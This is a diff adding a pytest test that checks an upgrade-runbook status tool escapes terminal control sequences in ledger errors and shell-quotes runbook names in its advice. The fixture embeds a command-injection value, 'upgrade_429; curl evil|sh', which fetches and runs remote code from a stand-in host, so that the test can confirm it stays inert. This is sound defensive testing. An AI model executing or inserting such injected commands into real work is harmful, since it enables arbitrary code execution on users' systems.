@@ -208,3 +208,22 @@ def test_a_backup_host_that_cannot_be_reached_is_said_and_the_ledgers_still_show
     nxt = out.split("next:\n")[1].splitlines()
     assert nxt[0].startswith("  the lock could not be read (") and "a run may be going on; check" in nxt[0]
     assert nxt[1].startswith(f"  run {rec.run_id} of upgrade_429 is unfinished")
+
+
+def test_outside_text_is_printed_escaped_and_advice_is_quoted_for_a_shell(env, tmp_path, capsys):
+    """A ledger's text (an error a console or a tool printed) can hold terminal escapes, and a folder under
+    state_dir any name: neither drives the terminal, and advice never turns a name into shell syntax."""
+    rec = upgrade(env, tmp_path)
+    rec.mark("start_new", "failed", error="console said \x1b[2J\x1b[31mall fine\x07", category="OMS not ready")
+    evil = tmp_path / "s" / "upgrade_429; curl evil|sh"
+    evil.mkdir()
+    led = json.loads(rec.path.read_text())
+    led["runbook"], led["run_id"] = "upgrade_429; curl evil|sh", "20261206T000000000000Z"
+    led["steps"] = {"preflight": led["steps"]["preflight"]}
+    (evil / "20261206T000000000000Z").mkdir()
+    (evil / "20261206T000000000000Z" / "ledger.json").write_text(json.dumps(led))
+    _, out = status(env, capsys)
+    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J" in out
+    advice = out.split("next:\n")[1]
+    assert "pytest 'runbooks/upgrade_429; curl evil|sh' --env" in advice, advice
+    assert "runbooks/upgrade_429; curl" not in advice.replace("'runbooks/upgrade_429; curl", "")
